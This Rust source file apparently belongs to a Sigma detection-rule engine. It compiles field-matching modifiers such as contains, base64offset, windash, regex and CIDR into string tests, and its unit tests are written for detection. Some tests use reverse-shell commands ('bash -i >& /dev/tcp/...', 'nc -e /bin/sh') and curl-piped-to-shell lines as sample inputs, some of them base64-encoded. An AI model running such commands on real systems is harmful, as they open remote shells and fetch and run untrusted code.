//! One `Field|modifiers: value(s)` entry of a selection, compiled once:
//! transformations (`base64`, `base64offset`, `windash`) expand a value
//! into variants, wildcards and `contains`/`startswith`/`endswith` become
//! the cheapest string test that is exact (ASCII case-insensitive, as Sigma
//! wants), `re` uses the linear-time `regex` crate with size limits.

use std::borrow::Cow;
use std::net::IpAddr;

use base64::Engine as _;
use regex::{Regex, RegexBuilder};

use crate::field::Field;
use crate::values::{Val, Values};

/// Compiled-program and DFA cache limits for one rule regex (the regex
/// crate's matching is linear in the input whatever the pattern).
const REGEX_SIZE_LIMIT: usize = 1 << 20;

#[derive(Debug, Clone)]
pub enum Pattern {
    /// `Field: null` or `''`-less absence: the field has no value.
    Null,
    Exists(bool),
    Exact(String),
    Prefix(String),
    Suffix(String),
    Contains(String),
    /// Non-null (`*`).
    Any,
    /// `lit`: the longest run of its literal text that a value must hold
    /// once ASCII-lowercased (see [`glob_literal`]); empty if none.
    Glob {
        re: Regex,
        lit: String,
    },
    Re(Regex),
    Cidr(IpAddr, u8),
}

/// Why an entry cannot be compiled; becomes a skip naming the feature.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Unsupported(pub String);

#[derive(Debug, Clone)]
pub struct FieldMatch {
    pub field: Field,
    /// Per value, its variants (any may match).
    pub values: Vec<Vec<Pattern>>,
    /// `|all`: every value must match, else any.
    pub all: bool,
}

impl FieldMatch {
    /// `v` must hold this entry's field (absent there means null).
    pub fn matches(&self, v: &Values<'_>) -> bool {
        let v = v.get(self.field);
        let one = |variants: &Vec<Pattern>| variants.iter().any(|p| p.test(v));
        if self.all {
            self.values.iter().all(one)
        } else {
            self.values.iter().any(one)
        }
    }
}

fn lower(s: &str) -> String {
    s.to_ascii_lowercase()
}

impl Pattern {
    /// One value as recorded; lowercases it (rule evaluation uses
    /// [`Pattern::test`] on values lowercased once per event).
    pub fn matches(&self, v: Option<&str>) -> bool {
        let lower = v.map(str::to_ascii_lowercase);
        self.test(
            v.zip(lower.as_deref())
                .map(|(raw, lower)| Val { raw, lower }),
        )
    }

    /// Exact/prefix/suffix/contains needles are ASCII-lowercased at
    /// compile time, so on the lowercased value a plain byte compare is
    /// Sigma's ASCII case-insensitive one.
    pub fn test(&self, v: Option<Val<'_>>) -> bool {
        match (self, v) {
            (Pattern::Null, v) => v.is_none_or(|v| v.raw.is_empty()),
            (Pattern::Exists(want), v) => v.is_some() == *want,
            (_, None) => false,
            (Pattern::Exact(p), Some(v)) => v.lower == p,
            (Pattern::Prefix(p), Some(v)) => v.lower.starts_with(p.as_str()),
            (Pattern::Suffix(p), Some(v)) => v.lower.ends_with(p.as_str()),
            (Pattern::Contains(p), Some(v)) => v.lower.contains(p.as_str()),
            (Pattern::Any, Some(_)) => true,
            (Pattern::Glob { re: r, .. } | Pattern::Re(r), Some(v)) => r.is_match(v.raw),
            (Pattern::Cidr(net, bits), Some(v)) => match v.raw.parse::<IpAddr>() {
                Ok(ip) => in_net(ip, *net, *bits),
                Err(_) => false,
            },
        }
    }
}

fn in_net(ip: IpAddr, net: IpAddr, bits: u8) -> bool {
    let ip = match (ip, net) {
        (IpAddr::V6(v6), IpAddr::V4(_)) => match v6.to_ipv4_mapped() {
            Some(v4) => IpAddr::V4(v4),
            None => return false,
        },
        (ip, _) => ip,
    };
    match (ip, net) {
        (IpAddr::V4(a), IpAddr::V4(n)) => {
            let mask = if bits == 0 {
                0
            } else {
                u32::MAX << (32 - u32::from(bits))
            };
            u32::from(a) & mask == u32::from(n) & mask
        }
        (IpAddr::V6(a), IpAddr::V6(n)) => {
            let mask = if bits == 0 {
                0
            } else {
                u128::MAX << (128 - u32::from(bits))
            };
            u128::from(a) & mask == u128::from(n) & mask
        }
        _ => false,
    }
}

fn parse_cidr(s: &str) -> Result<(IpAddr, u8), Unsupported> {
    let bad = || Unsupported(format!("invalid cidr value '{s}'"));
    let (addr, bits) = match s.split_once('/') {
        Some((a, b)) => (a, Some(b)),
        None => (s, None),
    };
    let ip: IpAddr = addr.trim().parse().map_err(|_| bad())?;
    let max = if ip.is_ipv4() { 32 } else { 128 };
    let bits = match bits {
        Some(b) => b.trim().parse::<u8>().map_err(|_| bad())?,
        None => max,
    };
    if bits > max {
        return Err(bad());
    }
    Ok((ip, bits))
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Tok {
    Star,
    One,
}

/// A Sigma string value split at its unescaped wildcards: `\*`, `\?` and
/// `\\` are literals, any other backslash is itself.
fn wildcard_parts(s: &str) -> Vec<Result<String, Tok>> {
    let mut out: Vec<Result<String, Tok>> = Vec::new();
    let mut lit = String::new();
    let mut chars = s.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\\' => match chars.peek() {
                Some(&n @ ('*' | '?' | '\\')) => {
                    lit.push(n);
                    chars.next();
                }
                _ => lit.push('\\'),
            },
            '*' | '?' => {
                if !lit.is_empty() {
                    out.push(Ok(std::mem::take(&mut lit)));
                }
                out.push(Err(if c == '*' { Tok::Star } else { Tok::One }));
            }
            _ => lit.push(c),
        }
    }
    if !lit.is_empty() {
        out.push(Ok(lit));
    }
    out
}

fn string_pattern(mut parts: Vec<Result<String, Tok>>) -> Result<Pattern, Unsupported> {
    // Collapse runs of stars.
    parts.dedup_by(|a, b| *a == Err(Tok::Star) && *b == Err(Tok::Star));
    let lits: Vec<&String> = parts.iter().filter_map(|p| p.as_ref().ok()).collect();
    let toks = parts.len() - lits.len();
    let starts = parts.first() == Some(&Err(Tok::Star));
    let ends = parts.last() == Some(&Err(Tok::Star));
    let simple = !parts.contains(&Err(Tok::One)) && lits.len() <= 1;
    if simple {
        let l = lits.first().map(|s| lower(s)).unwrap_or_default();
        return Ok(match (toks, starts, ends) {
            (0, _, _) => Pattern::Exact(l),
            (1, true, true) => Pattern::Any,
            (1, false, true) => Pattern::Prefix(l),
            (1, true, false) => Pattern::Suffix(l),
            _ => Pattern::Contains(l),
        });
    }
    let mut re = String::from("(?is)^");
    for p in &parts {
        match p {
            Ok(l) => re.push_str(&regex::escape(l)),
            Err(Tok::Star) => re.push_str(".*"),
            Err(Tok::One) => re.push('.'),
        }
    }
    re.push('$');
    let lit = glob_literal(parts.iter().filter_map(|p| p.as_ref().ok()));
    build_regex(&re).map(|re| Pattern::Glob { re, lit })
}

/// The longest piece of a glob's literal text whose presence in the
/// ASCII-lowercased value the glob's match implies. The glob regex is
/// Unicode case-insensitive: `k` also matches the Kelvin sign and `s` the
/// long s, and non-ASCII letters have other case forms, so pieces stop at
/// those characters and at any non-ASCII one.
pub(crate) fn glob_literal<'a>(lits: impl Iterator<Item = &'a String>) -> String {
    let mut best = "";
    for l in lits {
        for piece in l.split(|c: char| !c.is_ascii() || matches!(c, 'k' | 'K' | 's' | 'S')) {
            if piece.len() > best.len() {
                best = piece;
            }
        }
    }
    best.to_ascii_lowercase()
}

fn build_regex(re: &str) -> Result<Regex, Unsupported> {
    RegexBuilder::new(re)
        .size_limit(REGEX_SIZE_LIMIT)
        .dfa_size_limit(REGEX_SIZE_LIMIT)
        .build()
        .map_err(|e| Unsupported(format!("regular expression '{re}': {e}")))
}

/// `windash`: each `-` that starts a word may also be written `/` or a
/// dash look-alike, as on Windows. Every combination of one replacement
/// character is produced (as pySigma does).
fn windash(s: &str) -> Vec<String> {
    let mut out = vec![s.to_string()];
    let starts_word = |i: usize| i == 0 || s.as_bytes()[i - 1] == b' ';
    if !s.char_indices().any(|(i, c)| c == '-' && starts_word(i)) {
        return out;
    }
    for rep in ['/', '\u{2013}', '\u{2014}', '\u{2015}'] {
        let v: String = s
            .char_indices()
            .map(|(i, c)| if c == '-' && starts_word(i) { rep } else { c })
            .collect();
        out.push(v);
    }
    out
}

fn base64_plain(s: &str) -> String {
    base64::engine::general_purpose::STANDARD.encode(s.as_bytes())
}

/// The three encodings of `s` at each byte offset inside a longer base64
/// text, cut to the characters that do not depend on the neighbours.
fn base64_offsets(s: &str) -> Vec<String> {
    let enc = base64::engine::general_purpose::STANDARD;
    (0..3)
        .map(|i| {
            let mut data = vec![b' '; i];
            data.extend_from_slice(s.as_bytes());
            let e = enc.encode(&data);
            let start = [0, 2, 3][i];
            let cut = [0, 3, 2][(s.len() + i) % 3];
            let end = e.len() - cut;
            e.get(start..end).unwrap_or("").to_string()
        })
        .collect()
}

/// A YAML scalar as Sigma compares it.
pub enum Scalar<'a> {
    Null,
    Str(Cow<'a, str>),
    Bool(bool),
}

/// Compiles one `Field|mods` entry. `field_name` is only used in messages.
pub fn compile(
    field: Field,
    mods: &[&str],
    values: &[Scalar<'_>],
) -> Result<FieldMatch, Unsupported> {
    let mut all = false;
    let mut base = None::<&str>;
    let mut transforms: Vec<&str> = Vec::new();
    let mut re_flags = String::new();
    let mut re = false;
    let mut cidr = false;
    let mut exists = false;
    for &m in mods {
        match m {
            "contains" | "startswith" | "endswith" => {
                if base.replace(m).is_some() {
                    return Err(Unsupported(format!(
                        "modifier combination '{}'",
                        mods.join("|")
                    )));
                }
            }
            "all" => all = true,
            "base64" | "base64offset" | "windash" => transforms.push(m),
            "re" => re = true,
            "i" | "m" | "s" if re => re_flags.push_str(m),
            "cidr" => cidr = true,
            "exists" => exists = true,
            other => return Err(Unsupported(format!("modifier '{other}'"))),
        }
    }
    let special = usize::from(re) + usize::from(cidr) + usize::from(exists);
    if special > 1 || (special == 1 && (base.is_some() || !transforms.is_empty())) {
        return Err(Unsupported(format!(
            "modifier combination '{}'",
            mods.join("|")
        )));
    }
    let mut out = Vec::with_capacity(values.len());
    for v in values {
        let text = match v {
            Scalar::Null => {
                if special > 0 || base.is_some() || !transforms.is_empty() {
                    return Err(Unsupported("null value with modifiers".into()));
                }
                out.push(vec![Pattern::Null]);
                continue;
            }
            Scalar::Bool(b) if exists => {
                out.push(vec![Pattern::Exists(*b)]);
                continue;
            }
            Scalar::Bool(b) => Cow::Owned(b.to_string()),
            Scalar::Str(_) if exists => {
                return Err(Unsupported(
                    "exists modifier with a non-boolean value".into(),
                ))
            }
            Scalar::Str(s) => s.clone(),
        };
        if re {
            let pat = if re_flags.is_empty() {
                text.to_string()
            } else {
                format!("(?{re_flags}){text}")
            };
            out.push(vec![Pattern::Re(build_regex(&pat)?)]);
            continue;
        }
        if cidr {
            let (net, bits) = parse_cidr(&text)?;
            out.push(vec![Pattern::Cidr(net, bits)]);
            continue;
        }
        let mut variants = vec![text.to_string()];
        for t in &transforms {
            variants = variants
                .iter()
                .flat_map(|v| match *t {
                    "windash" => windash(v),
                    "base64" => vec![base64_plain(v)],
                    _ => base64_offsets(v),
                })
                .collect();
        }
        // A base64 text holds no wildcards: its characters are literal.
        let encoded = transforms.iter().any(|t| t.starts_with("base64"));
        let mut pats = Vec::with_capacity(variants.len());
        for v in variants {
            let mut parts = if encoded {
                vec![Ok(v)]
            } else {
                wildcard_parts(&v)
            };
            if parts.is_empty() {
                parts.push(Ok(String::new()));
            }
            match base {
                Some("contains") => {
                    parts.insert(0, Err(Tok::Star));
                    parts.push(Err(Tok::Star));
                }
                Some("startswith") => parts.push(Err(Tok::Star)),
                Some("endswith") => parts.insert(0, Err(Tok::Star)),
                _ => {}
            }
            parts.retain(|p| p.as_ref().map(|s| !s.is_empty()).unwrap_or(true));
            pats.push(string_pattern(parts)?);
        }
        out.push(pats);
    }
    Ok(FieldMatch {
        field,
        values: out,
        all,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn one(mods: &[&str], v: &str) -> FieldMatch {
        compile(Field::CommandLine, mods, &[Scalar::Str(v.into())]).unwrap()
    }

    /// `fm` of one value: whether `v` matches it.
    fn m(fm: &FieldMatch, v: &str) -> bool {
        // Both entry points agree: one lowercasing per call and one per event.
        let mut t = crate::rule::tests::Fake::default();
        t.fields.insert(fm.field, v.to_string());
        let via_values = fm.matches(&Values::load(&t, crate::values::FieldSet::ALL));
        let direct = fm
            .values
            .iter()
            .any(|vs| vs.iter().any(|p| p.matches(Some(v))));
        assert_eq!(via_values, direct, "{v}");
        direct
    }

    #[test]
    fn wildcards_and_case() {
        let p = one(&[], "/usr/bin/*sh");
        assert!(m(&p, "/USR/bin/bash"));
        assert!(!m(&p, "/usr/bin/bash -i"));
        assert!(m(&one(&[], "a?c"), "abc"));
        assert!(!m(&one(&[], "a?c"), "abbc"));
        assert!(m(&one(&[], r"a\*c"), "a*c"));
        assert!(!m(&one(&[], r"a\*c"), "abc"));
        assert!(m(&one(&[], r"C:\Windows"), r"c:\windows"));
        assert!(matches!(one(&[], "x*").values[0][0], Pattern::Prefix(_)));
        assert!(matches!(
            one(&["contains"], "x").values[0][0],
            Pattern::Contains(_)
        ));
    }

    #[test]
    fn contains_startswith_endswith() {
        assert!(m(
            &one(&["contains"], "/dev/tcp/"),
            "bash -i >& /DEV/tcp/1.2.3.4/9"
        ));
        assert!(!m(&one(&["contains"], "/dev/tcp/"), "bash -i"));
        assert!(m(&one(&["startswith"], "/tmp/"), "/tmp/x"));
        assert!(!m(&one(&["startswith"], "/tmp/"), "/var/tmp/x"));
        assert!(m(&one(&["endswith"], "/sh"), "/bin/sh"));
        assert!(!m(&one(&["endswith"], "/sh"), "/bin/ssh"));
        // Wildcards inside a contains stay wildcards.
        assert!(m(&one(&["contains"], "curl*|*sh"), "x curl http://a | sh"));
    }

    #[test]
    fn all_modifier() {
        let vals = [Scalar::Str("nc".into()), Scalar::Str(" -e ".into())];
        let fm = compile(Field::CommandLine, &["contains", "all"], &vals).unwrap();
        let s = |v: &str| {
            let mut t = crate::rule::tests::Fake::default();
            t.fields.insert(Field::CommandLine, v.to_string());
            fm.matches(&Values::load(&t, crate::values::FieldSet::ALL))
        };
        assert!(s("nc -e /bin/sh 1.2.3.4 9"));
        assert!(!s("nc 1.2.3.4 9"));
        let any = compile(Field::CommandLine, &["contains"], &vals).unwrap();
        let mut t = crate::rule::tests::Fake::default();
        t.fields.insert(Field::CommandLine, "nc 1.2.3.4".into());
        assert!(any.matches(&Values::load(&t, crate::values::FieldSet::ALL)));
    }

    #[test]
    fn regex_is_case_sensitive_unless_i() {
        assert!(m(&one(&["re"], "^bash -[ic]$"), "bash -i"));
        assert!(!m(&one(&["re"], "^bash -[ic]$"), "BASH -i"));
        assert!(m(&one(&["re", "i"], "^bash -[ic]$"), "BASH -i"));
        let huge = "(a{1000}){1000}".to_string();
        let e = compile(Field::CommandLine, &["re"], &[Scalar::Str(huge.into())]).unwrap_err();
        assert!(e.0.contains("regular expression"), "{e:?}");
    }

    #[test]
    fn cidr() {
        let p = one(&["cidr"], "10.0.0.0/8");
        assert!(m(&p, "10.1.2.3"));
        assert!(!m(&p, "11.1.2.3"));
        assert!(m(&p, "::ffff:10.9.9.9"));
        assert!(!m(&p, "not an ip"));
        let p6 = one(&["cidr"], "fe80::/10");
        assert!(m(&p6, "fe80::1"));
        assert!(!m(&p6, "2001:db8::1"));
        assert!(compile(
            Field::DestinationIp,
            &["cidr"],
            &[Scalar::Str("10.0.0.0/33".into())]
        )
        .is_err());
    }

    #[test]
    fn base64_and_offsets() {
        // A whole value encoded (6 bytes: no padding) inside a longer blob.
        let p = one(&["base64", "contains"], "curl h");
        assert!(m(
            &p,
            &format!("echo {} | base64 -d", base64_plain("curl http://x | sh"))
        ));
        // At any offset.
        let p = one(&["base64offset", "contains"], "/dev/tcp/");
        for prefix in ["", "a", "ab", "abc"] {
            let blob = base64_plain(&format!("{prefix}bash -i >& /dev/tcp/1.2.3.4/9"));
            assert!(m(&p, &blob), "offset {}", prefix.len());
        }
        assert!(!m(&p, &base64_plain("bash -i >& /dev/udp/1.2.3.4/9")));
    }

    #[test]
    fn windash_variants() {
        let p = one(&["windash", "contains"], " -e ");
        assert!(m(&p, "nc /e sh"));
        assert!(m(&p, "nc -e sh"));
        assert!(m(&p, "nc \u{2013}e sh"));
        assert!(!m(&p, "nc e sh"));
    }

    #[test]
    fn exists_and_null() {
        let e = compile(Field::User, &["exists"], &[Scalar::Bool(true)]).unwrap();
        assert!(e.values[0][0].matches(Some("root")));
        assert!(!e.values[0][0].matches(None));
        let n = compile(Field::User, &["exists"], &[Scalar::Bool(false)]).unwrap();
        assert!(n.values[0][0].matches(None));
        let null = compile(Field::User, &[], &[Scalar::Null]).unwrap();
        assert!(null.values[0][0].matches(None));
        assert!(!null.values[0][0].matches(Some("root")));
        assert!(compile(Field::User, &["exists"], &[Scalar::Str("yes".into())]).is_err());
    }

    #[test]
    fn unknown_modifier_is_named() {
        let e = compile(Field::User, &["gt"], &[Scalar::Str("1".into())]).unwrap_err();
        assert_eq!(e.0, "modifier 'gt'");
    }
}
